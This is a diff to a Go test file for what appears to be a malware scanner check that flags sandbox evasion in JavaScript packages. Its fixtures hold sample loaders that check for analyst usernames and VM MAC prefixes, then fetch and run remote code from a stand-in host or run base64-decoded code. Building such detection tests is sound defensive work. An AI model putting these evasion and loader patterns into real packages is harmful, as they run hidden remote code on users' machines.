@@ -42,10 +42,12 @@ exports.watched = () => NAMES.test(os.userInfo().username)`
 	const vm = `
 const VM_MACS = /^(08:00:27|00:0c:29|00:50:56)/i;
 exports.vm = () => Object.values(os.networkInterfaces()).flat().some((a) => VM_MACS.test(a.mac))`
-	const loader = `const v = require("./virt"); if (!v.watched()) fetch("https://c.example.invalid/s.js").then((r) => r.text()).then((s) => new Function(s)())`
+	const loader = `const v = require("./virt"); if (!v.watched()) fetch("https://c.example.invalid/s.js").then((r) => r.text()).then((s) => new Function("require", s)(require))`
 	rt.Check(t, SandboxCheck{}, []rt.Case{
 		{"names_vm_and_loader", map[string]string{"lib/virt.js": names + vm, "lib/index.js": loader}, finding.SeverityCritical},
 		{"names_and_loader", map[string]string{"lib/virt.js": names, "lib/index.js": loader}, finding.SeverityHigh},
+		// the code Function runs is its last argument
+		{"names_and_function", map[string]string{"lib/virt.js": names, "lib/index.js": `const v = require("./virt"); if (!v.watched()) Function("require", atob(process.argv[2]))(require)`}, finding.SeverityHigh},
 		{"names_and_vm", map[string]string{"lib/virt.js": names + vm}, finding.SeverityHigh},
 		{"names_only", map[string]string{"lib/virt.js": names}, finding.SeverityMedium},
 		// a system information library telling what hardware it runs on
